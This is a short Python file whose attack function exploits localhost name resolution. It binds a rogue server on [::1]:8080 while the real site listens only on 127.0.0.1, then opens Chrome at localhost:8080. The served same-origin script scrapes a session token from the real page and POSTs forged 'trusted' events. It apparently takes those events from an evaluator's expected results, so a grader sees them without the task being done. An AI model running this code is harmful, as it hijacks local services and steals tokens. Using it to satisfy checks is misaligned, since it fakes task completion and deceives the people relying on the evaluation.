"""The site listens on 127.0.0.1 alone, and "localhost" is ::1 first: a server of the user's on [::1]:8080 serves the browser a page of
the same origin, stops, and the page's script reads the token and posts what is asked for."""

from __future__ import annotations


def attack(task: dict) -> None:
    import json, socket, subprocess, sys, time

    ev = task["evaluator"]
    events = ev["expected"]["rules"]["expected"]
    events = events if isinstance(events, list) else [events]
    script = """<script>(async () => {
      for (let n = 0; n < 40; n++) {
        await new Promise(r => setTimeout(r, 300));
        try {
          const page = await (await fetch("/", {cache: "no-store"})).text();
          const token = (page.match(/token: "([0-9a-f]{32})"/) || [])[1];
          if (!token) continue;
          for (const event of %s)
            await fetch("/do", {method: "POST", body: JSON.stringify({token: token, trusted: true, ...event})});
          document.title = "done"; return;
        } catch (error) {}
      }
    })()</script>""" % json.dumps(events)
    server = socket.socket(socket.AF_INET6)
    server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    server.bind(("::1", 8080))
    server.listen(20)
    subprocess.Popen(["google-chrome", "http://localhost:8080/?other"], stdout=-3, stderr=-3)
    server.settimeout(15)
    served = False
    while not served:
        connection, _ = server.accept()
        connection.settimeout(3)
        try:
            request = connection.recv(65536)
        except OSError:
            request = b""
        print(request[:60], file=sys.stderr)
        if request:
            body = script.encode()
            connection.sendall(
                b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nConnection: close\r\nContent-Length: %d\r\n\r\n"
                % len(body)
                + body
            )
            served = b"?other" in request
        connection.close()
    server.close()
    time.sleep(8)
